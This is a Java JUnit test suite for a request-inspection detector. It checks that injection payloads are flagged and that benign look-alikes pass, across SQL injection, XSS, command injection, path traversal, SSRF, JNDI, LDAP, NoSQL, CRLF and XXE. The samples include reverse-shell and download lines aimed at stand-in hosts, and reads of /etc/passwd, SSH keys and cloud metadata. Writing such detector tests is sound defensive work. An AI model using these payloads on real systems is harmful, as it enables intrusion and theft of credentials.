package io.bulwark.policy.detect;

import static io.bulwark.policy.detect.DetectorAssertions.clean;
import static io.bulwark.policy.detect.DetectorAssertions.flagged;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assertions.assertNull;

import org.junit.jupiter.api.Nested;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Each detector on the attacks and obfuscations it exists for, and on benign look-alikes. */
class InjectionDetectorsTest {

  @Nested
  class SqlInjection {
    @ParameterizedTest
    @ValueSource(strings = {
      "div(23,-2)", "lo_get(16400)", ", FIND_IN_SET('22', Category )", "' or 1=1--", "' OR '1'='1", "admin'--",
      "admin'#", "admin'/*", "' or ''='", "1 or 1=1", "1' and '1'='1", "-1 union select 1,2,3--",
      "1 UNION ALL SELECT NULL,NULL,NULL", "1/**/union/**/select/**/1,2", "1 /*!50000union*/ /*!50000select*/ 1,2",
      "1; drop table users", "'; DROP TABLE users; --", "1;shutdown--", "'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
      "1 and sleep(5)", "1' and sleep(5)#", "1) or benchmark(10000000,md5(1))#", "'; waitfor delay '0:0:5'--",
      "1;select pg_sleep(5)", "' || pg_sleep(5)--", "1 and extractvalue(1,concat(0x7e,version()))",
      "' and updatexml(1,concat(0x7e,(select user())),1)--",
      "1 and ascii(substring((select password from users),1,1))>64", "' union select username, password from users--",
      "1' order by 3--", "') or ('a'='a", "1\" or \"1\"=\"1", "%27%20or%201%3D1--", "%2527%20or%201=1--",
      "&#39; or 1=1--", "\u02bc or 1=1--", "ｕｎｉｏｎ ｓｅｌｅｃｔ 1,2", "1 and @@version>5",
      "select * from information_schema.tables", "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
      "1' into outfile '/tmp/x'--", "'{\"b\":2}'::jsonb @> '{\"a\":1}'::jsonb", "ALTER TABLE `users` ADD admin INT",
      "password::int", "database(", "information_schema", "root@example.com'/* x */;",
    })
    void attacks(String value) {
      flagged(Category.SQL_INJECTION, value);
    }

    @ParameterizedTest
    @ValueSource(strings = {
      "select a union representative", "O'Brien", "Rock 'n' roll", "it's 5 o'clock", "john.o'hara@example.com",
      "Please select one option from the list", "Drop me a line", "Order by phone", "Tom's and Jerry's",
      "1 or 2 people", "between 5 and 10", "She said \"hello\"", "7\" #2 CIRCULAR NEEDLE", "00 AND 3",
      "DO OR NOT DO", "2024-03-15", "1,000,000", "#1 fan", "a-b-c", "-- signed, Anna", "A/B testing",
      "sin(x) + cos(y)", "max(a, b)", "it's -- great", "BAMBOO CHARCOAL SOAP 1 '#", "where's the party",
      "trade union select committee meeting", "The union voted; drop the issue", "SELECT is a SQL keyword",
      "Create table of contents", "Alter table settings", "gift-wrap; it's for Anna", "std::vector", "Ben & Jerry's",
    })
    void benign(String value) {
      clean(Category.SQL_INJECTION, value);
    }

    @Test
    void evidenceIsThePartOfTheValueThatMadeTheDecision() {
      Finding f = flagged(Category.SQL_INJECTION, "john' or 1=1--");
      assertEquals("sqli.boolean", f.reason());
      assertEquals("' or 1=1--", f.evidence());
      Finding encoded = flagged(Category.SQL_INJECTION, "john%27%20or%201%3D1--");
      assertEquals("sqli.boolean", encoded.reason());
      assertTrue(encoded.evidence().contains("%27"), encoded.evidence()); // the value as received
    }
  }

  @Nested
  class Xss {
    @ParameterizedTest
    @ValueSource(strings = {
      "<script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js>", "<img src=x onerror=alert(1)>",
      "<svg/onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<a href=\"javascript:alert(1)\">x</a>",
      "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\"java\tscript:alert(1)\">",
      "<object data=\"data:text/html;base64,PHNjcmlwdD4=\">", "<embed src=x.swf>", "<body onload=alert(1)>",
      "<div style=\"width:expression(alert(1))\">", "&lt;script&gt;alert(1)&lt;/script&gt;",
      "%3Cscript%3Ealert(1)%3C/script%3E", "%253Cscript%253E", "\\u003cscript\\u003ealert(1)",
      "＜script＞alert(1)＜/script＞", "\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='",
      "\"><img src=x onerror=alert(1)>", "javascript:alert(document.cookie)", "vbscript:msgbox(1)",
      "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
      "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<scr<script>ipt>alert(1)</script>", "\";alert(1);//",
      "<details open ontoggle=alert(1)>", "<IMG STYLE=\"x:expr/**/ession(alert(1))\">",
      "<span datasrc=#x datafld=b dataformatas=html>", "document /*x*/ . cookie", "alert(1)",
      "\u00bcscript\u00bealert(1)\u00bc/script\u00be", "<f o r m action=x>", "x=x:url(javascript",
      "\\xc2\\xbcscript\\xc2\\xbealert(1)\\xc2\\xbc/script\\xc2\\xbe",
      "style = background : url ( javascript : alert(1) )",
    })
    void attacks(String value) {
      flagged(Category.XSS, value);
    }

    @ParameterizedTest
    @ValueSource(strings = {
      "a < b", "x<y and y>z", "<3", "I <3 NY", "price < 100", "1 < 2 < 3", "<b>bold</b>", "<p>Hello</p>",
      "<a href=\"https://example.com\">link</a>", "<img src=\"cat.png\" alt=\"cat\">", "JavaScript: The Good Parts",
      "The event handler fires onclick", "Use onload to initialise", "online=true", "onboarding checklist",
      "select a union representative", "Movie script draft", "https://example.com/?q=a&b=c", "data: see attached",
      "\u00bc cup flour, \u00be cup sugar", "< b o l d", "a < s c o r e",
    })
    void benign(String value) {
      clean(Category.XSS, value);
    }

    @Test
    void parametersNamedAfterDomSinksAreFlaggedButNotJsonKeys() {
      assertEquals("xss.dom-sink",
          Detectors.standard().inspect(Category.XSS, Source.COOKIE, "window.location", "941180-3").reason());
      assertEquals("xss.dom-sink",
          Detectors.standard().inspect(Category.XSS, Source.FORM, "document.cookie", "x").reason());
      assertNull(Detectors.standard().inspect(Category.XSS, Source.JSON, "location.href", "https://app.example.com/"));
      assertNull(Detectors.standard().inspect(Category.XSS, Source.QUERY, "user.location", "Berlin"));
    }

    @Test
    void userAgentsAreReadForTagsAndHandlersOnly() {
      clean(Category.XSS, Source.HEADER,
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0");
      flagged(Category.XSS, Source.HEADER, "<script>alert(1)</script>");
      flagged(Category.XSS, Source.HEADER, "CustomBot/2.0 ' onerror=alert(1) '");
    }
  }

  @Nested
  class CommandInjection {
    @ParameterizedTest
    @ValueSource(strings = {
      "; cat /etc/passwd", "| id", "a;id", "|id|", "&& whoami", "|| wget http://evil.example/x.sh", "$(whoami)",
      "`id`", "x`uname -a`", "; bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "127.0.0.1; ls -la",
      "127.0.0.1 | nc -e /bin/sh 10.0.0.1 4444", "\ncurl evil.example", "%0acat%20/etc/passwd", ";cat${IFS}/etc/passwd",
      "; w'h'o'am'i", "; c\\at /etc/hosts", "/usr/bin/id", "/bin/sh -c id", "& dir c:\\", "| type c:\\windows\\win.ini",
      "() { :; }; /bin/bash -c id", ";system('id')", "for %i in (*) do del %i", "$(($(id)))", "cat /etc/pa[s]swd",
      "sh -c whoami", "time sh -c whoami", "{cat,/etc/passwd}", "c{a,oun}t /etc/hosts", "\\ls", ";env",
      "IF /I a==b ECHO x", "$SHELL -c id", "|$u wget evil.example", "~+", "~-1", "!-1!-2", "!!", "if/i a==b foo",
      "alias -p x=id", "alias +m a=b", "x&bcdboot /r file.txt", "; regedit /E c:\\x.reg HKEY_CURRENT_USER\\K",
    })
    void attacks(String value) {
      flagged(Category.COMMAND_INJECTION, value);
    }

    @ParameterizedTest
    @ValueSource(strings = {
      "Tom & Jerry", "rock; cat lovers welcome", "A|B testing", "salt & pepper", "yes|no", "R&D; more",
      "Use `npm install` to set up", "ls -la output attached", "docker compose up -d", "git commit -m \"fix\"",
      "Hello ${user}, welcome", "${name}", "$5", "cost $3 & tax", "The cat sat on the mat", "Ping pong",
      "Name; ID number", "2 > 1", "a && b", "(see above)", "for each item in the list do this", "if exists, skip",
      "if a equals b, call me", "{placeholder}", "{\"a\":1,\"b\":2}", "~/Documents", "alias: Johnny",
      "~", "~2", "Wow!!", "!1", "Great job!-1 point", "alias for the shared mailbox", "regedit is a Windows tool",
    })
    void benign(String value) {
      clean(Category.COMMAND_INJECTION, value);
    }

    @Test
    void userAgentsPass() {
      clean(Category.COMMAND_INJECTION, Source.HEADER,
          "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)");
      clean(Category.COMMAND_INJECTION, Source.HEADER, "curl/8.4.0");
      flagged(Category.COMMAND_INJECTION, Source.HEADER, "() { :; }; /bin/bash -c 'curl evil.example'");
    }
  }

  @Nested
  class PathTraversal {
    @ParameterizedTest
    @ValueSource(strings = {
      "../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
      "%252e%252e%252f%252e%252e%252f", "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "..%c0%af..%c0%afetc",
      "%u002e%u002e%u2215", "....//....//etc/passwd", "/etc/passwd", "/proc/self/environ", "C:\\windows\\win.ini",
      "c:/boot.ini", "WEB-INF/web.xml", "../WEB-INF/web.xml", "file.jsp%00.png", "report.pdf\u0000.txt", "..",
      "/var/www/../../etc/shadow", "0x2e0x2e0x2f0x2e0x2e0x2fetc", "..;/admin", "/.git/config", "/home/app/.ssh/id_rsa",
    })
    void attacks(String value) {
      flagged(Category.PATH_TRAVERSAL, value);
    }

    @ParameterizedTest
    @ValueSource(strings = {
      "report.pdf", "docs/readme.md", "images/2024/01/photo.jpg", "C:\\Users\\anna\\Documents\\report.docx", "Wait...",
      "...", "[see the guide](../guide.md)", "https://docs.example.com/guide/../index.html",
      "The /etc/passwd file stores users", "1.2.3", "a..b", "v1.0..v2.0",
    })
    void benign(String value) {
      clean(Category.PATH_TRAVERSAL, value);
    }

    @Test
    void pathSegmentsNamingDotFilesAndHeadersWithUrls() {
      flagged(Category.PATH_TRAVERSAL, Source.PATH, ".env");
      flagged(Category.PATH_TRAVERSAL, Source.PATH, "/get/backup.sql.zip");
      flagged(Category.PATH_TRAVERSAL, Source.PATH, "/@id/__x00__");
      clean(Category.PATH_TRAVERSAL, Source.QUERY, "backup.sql.zip");
      clean(Category.PATH_TRAVERSAL, Source.PATH, "/api/backups/42");
      flagged(Category.PATH_TRAVERSAL, Source.QUERY, ">/tmp/curl");
      flagged(Category.PATH_TRAVERSAL, Source.FORM,
          "Content-Disposition: form-data; name=\"file\"; filename=\"../1.7z\"");
      flagged(Category.PATH_TRAVERSAL, Source.FORM,
          "Content-Disposition: form-data; name=\"file\"; filename=\"..\\1.7z\"");
      clean(Category.PATH_TRAVERSAL, Source.JSON, "See <a href=\"../guide\">the guide</a>");
      clean(Category.PATH_TRAVERSAL, Source.JSON, "> /etc is where config lives");
      clean(Category.PATH_TRAVERSAL, Source.PATH, ".well-known");
      clean(Category.PATH_TRAVERSAL, Source.HEADER, "https://example.com/a/../b");
      flagged(Category.PATH_TRAVERSAL, Source.HEADER, "../../../etc/passwd");
    }
  }

  @Nested
  class Ssrf {
    @ParameterizedTest
    @ValueSource(strings = {
      "http://127.0.0.1/admin", "http://localhost:8080/", "http://169.254.169.254/latest/meta-data/", "http://[::1]/",
      "http://[::ffff:127.0.0.1]/", "http://2130706433/", "http://0x7f000001/", "http://0177.0.0.1/", "http://127.1/",
      "http://metadata.google.internal/computeMetadata/v1/", "https://10.0.0.5/internal", "http://user@127.0.0.1/",
      "http://example.com@127.0.0.1/", "http://[fd00:ec2::254]/", "http://100.64.1.1/", "file:///etc/passwd",
      "gopher://127.0.0.1:6379/_INFO", "dict://127.0.0.1:11211/stats", "jar:http://evil.example/x.jar!/",
      "netdoc:///etc/passwd", "ldap://evil.example/a", "http%3A%2F%2F127.0.0.1%2F", "http://127.0.0.1.nip.io/",
      "http:/\\127.0.0.1/",
    })
    void attacks(String value) {
      flagged(Category.SSRF, value);
    }

    @ParameterizedTest
    @ValueSource(strings = {
      "https://www.example.com/", "https://api.example.org/v1/users/42?include=orders", "mailto:someone@example.com",
      "file: report.pdf", "ftp is an old protocol", "Note: see attached", "10:30", "127.0.0.1 is localhost",
      "https://en.wikipedia.org/wiki/Localhost", "data:image/png;base64,iVBORw0KGgo=",
    })
    void benign(String value) {
      clean(Category.SSRF, value);
    }

    @Test
    void bareHostsCountInParametersNamedLikeUrlsAndHeadersAreLeftAlone() {
      assertEquals("ssrf.loopback",
          Detectors.standard().inspect(Category.SSRF, Source.QUERY, "url", "localhost/").reason());
      assertEquals(null, Detectors.standard().inspect(Category.SSRF, Source.QUERY, "comment", "localhost"));
      assertEquals(null,
          Detectors.standard().inspect(Category.SSRF, Source.QUERY, "comment", "open localhost/ in a browser"));
      // a whole value that is a local URL without its scheme counts under any name (SchemelessLocalUrlTest)
      assertEquals("ssrf.loopback",
          Detectors.standard().inspect(Category.SSRF, Source.QUERY, "comment", "localhost/").reason());
      clean(Category.SSRF, Source.HEADER, "http://localhost:3000/page?x=1");
    }

    @Test
    void remoteFileInclusionIsReportedAsSsrf() {
      assertEquals("ssrf.rfi-trailing-question",
          Detectors.standard().inspect(Category.SSRF, Source.QUERY, "x", "https://evil.example?").reason());
      assertEquals("ssrf.rfi-trailing-question",
          Detectors.standard().inspect(Category.SSRF, Source.QUERY, "x", "http://evil.example/shell.txt??").reason());
      assertEquals("ssrf.rfi-trailing-question",
          Detectors.standard().inspect(Category.SSRF, Source.QUERY, "x", "ftp?").reason());
      assertEquals("ssrf.rfi-include-parameter",
          Detectors.standard().inspect(Category.SSRF, Source.QUERY, "_CONF[path]", "https://foo.bar").reason());
      assertEquals("ssrf.rfi-include-parameter", Detectors.standard()
          .inspect(Category.SSRF, Source.QUERY, "mosConfig_absolute_path", "https://foo.bar").reason());
      assertEquals("ssrf.rfi-include-parameter",
          Detectors.standard().inspect(Category.SSRF, Source.JSON, "templateDir", "http://evil.example/t").reason());
      // a search page left with an empty query, a question in prose, public URLs in upload and analytics fields
      assertNull(Detectors.standard()
          .inspect(Category.SSRF, Source.QUERY, "returnTo", "https://shop.example.com/search?"));
      assertNull(Detectors.standard().inspect(Category.SSRF, Source.QUERY, "q", "which file?"));
      assertNull(Detectors.standard().inspect(Category.SSRF, Source.QUERY, "q", "https or http?"));
      assertNull(Detectors.standard().inspect(Category.SSRF, Source.QUERY, "page", "https://www.example.com/pricing"));
      assertNull(Detectors.standard()
          .inspect(Category.SSRF, Source.QUERY, "file", "https://cdn.example.net/report.pdf"));
      assertNull(Detectors.standard().inspect(Category.SSRF, Source.QUERY, "path", "/docs/guide"));
    }
  }

  @Nested
  class Jndi {
    @ParameterizedTest
    @ValueSource(strings = {
      "${jndi:ldap://evil.example/a}", "${JNDI:rmi://evil.example/a}", "${${lower:j}ndi:ldap://evil.example/a}",
      "${${::-j}${::-n}${::-d}${::-i}:ldap://evil.example/a}", "${${env:NOPE:-j}ndi:ldap://x/a}",
      "${${date:'j'}ndi:dns://x/a}", "${${upper:j}${lower:N}di:ldap://x}", "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D",
      "$%7Bjndi:ldap://x/a}", "${j${k8s:k5:-ND}i:ldap://x}", "&#x24;&#123;jndi:ldap://x/a}",
      "$${env:x:-${env:y:-$}{jndi:ldap://x/a}}}", "text before ${jndi:ldap://x/a} and after",
    })
    void attacks(String value) {
      flagged(Category.JNDI, value);
      flagged(Category.JNDI, Source.HEADER, value);
    }

    @ParameterizedTest
    @ValueSource(strings = {"${name}", "Hello ${user}, welcome", "${jndi}", "jndi:ldap://x without lookup",
        "$5 and ${price}", "${env:HOME}"})
    void benign(String value) {
      clean(Category.JNDI, value);
    }
  }

  @Nested
  class Ldap {
    @ParameterizedTest
    @ValueSource(strings = {"*)(uid=*", "admin)(|(password=*)", "*)(&", "x)(!(objectClass=*)", "admin)(&(uid=*))",
        "(|(uid=*)(cn=*))", "admin%29%28%7C%28uid%3D*%29", "*)\u0000"})
    void attacks(String value) {
      flagged(Category.LDAP_INJECTION, value);
    }

    @ParameterizedTest
    @ValueSource(strings = {"(see above)", "(a)(b)(c)", "(1) first (2) second", "*", "John (Johnny) Smith", "f(x)(y)",
        "x)(y"})
    void benign(String value) {
      clean(Category.LDAP_INJECTION, value);
    }
  }

  @Nested
  class NoSql {
    @Test
    void operatorsInNamesAndKeys() {
      Detectors d = Detectors.standard();
      assertEquals("nosqli.operator", d.inspect(Category.NOSQL_INJECTION, Source.QUERY, "user[$ne]", "x").reason());
      assertEquals("nosqli.operator",
          d.inspect(Category.NOSQL_INJECTION, Source.FORM, "password[$regex]", ".*").reason());
      assertEquals("nosqli.operator", d.inspect(Category.NOSQL_INJECTION, Source.JSON, "$gt", "").reason());
      assertEquals("nosqli.operator", d.inspect(Category.NOSQL_INJECTION, Source.QUERY, "filter.$where", "1").reason());
      assertEquals(null, d.inspect(Category.NOSQL_INJECTION, Source.QUERY, "price", "$5"));
      assertEquals(null, d.inspect(Category.NOSQL_INJECTION, Source.QUERY, "$format", "json"));
      assertEquals(null, d.inspect(Category.NOSQL_INJECTION, Source.HEADER, "$ne", "x"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"{\"$ne\": null}", "{\"$gt\":\"\"}", "{$where: 'sleep(5000)'}", "[$ne]",
        "{\"username\": {\"$regex\": \"^a\"}}", "$where: function() { return true; }", "%7B%22%24ne%22%3A1%7D"})
    void operatorsInValues(String value) {
      flagged(Category.NOSQL_INJECTION, value);
    }

    @ParameterizedTest
    @ValueSource(strings = {"$5", "$100 bill", "US$ 20", "price: $9.99", "{\"price\": \"$ne\"}", "$HOME directory",
        "the $where clause is dangerous"})
    void benign(String value) {
      clean(Category.NOSQL_INJECTION, value);
    }
  }

  @Nested
  class Crlf {
    @ParameterizedTest
    @ValueSource(strings = {"x\r\nSet-Cookie: admin=1", "%0d%0aSet-Cookie:%20a=1", "%0aLocation: http://evil.example",
        "x\u2028Set-Cookie: a=1", "x\u0085Location: /", "%250d%250aX-Injected: 1", "x\r\nHTTP/1.1 200 OK"})
    void attacks(String value) {
      flagged(Category.CRLF_INJECTION, value);
    }

    @Test
    void singleLineSourcesFlagAnyHeaderLine() {
      flagged(Category.CRLF_INJECTION, Source.COOKIE, "a%0d%0aFoo: bar");
      flagged(Category.CRLF_INJECTION, Source.HEADER, "a\r\nFoo: bar");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Hello,\nNote: the office is closed", "Line one\nLine two", "Subject: quarterly report",
        "First.\n\nSecond.", "Meeting notes:\n- budget: approved"})
    void benign(String value) {
      clean(Category.CRLF_INJECTION, value);
      clean(Category.CRLF_INJECTION, Source.JSON, value);
    }
  }

  @Nested
  class Xxe {
    @ParameterizedTest
    @ValueSource(strings = {
      "<?xml version=\"1.0\"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>",
      "<!DOCTYPE foo [<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\"> %p;]><foo/>",
      "<!DOCTYPE foo SYSTEM \"http://evil.example/x.dtd\"><foo/>",
      "<!DOCTYPE foo PUBLIC \"-//x//EN\" \"http://evil.example/x.dtd\"><foo/>",
      "<!doctype foo [<!entity xxe public \"x\" \"file:///etc/hosts\">]><foo>&xxe;</foo>",
      "<root xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"file:///etc/passwd\"/></root>",
    })
    void attacks(String value) {
      flagged(Category.XXE, Source.XML_DOCUMENT, value);
    }

    @Test
    void internalEntitiesAndPlainDocumentsPass() {
      clean(Category.XXE, Source.XML_DOCUMENT, "<?xml version=\"1.0\"?><order><id>42</id></order>");
      clean(Category.XXE, Source.XML_DOCUMENT, "<!DOCTYPE note [<!ENTITY writer \"Anna\">]><note>&writer;</note>");
      clean(Category.XXE, Source.XML_DOCUMENT, "<!DOCTYPE html><html></html>");
      // only XML documents (and XML pasted into a parameter) are read for DTDs
      clean(Category.XXE, Source.HEADER, "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>");
      flagged(Category.XXE, Source.FORM,
          "<!DOCTYPE foo [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]><foo>&xxe;</foo>");
    }
  }
}
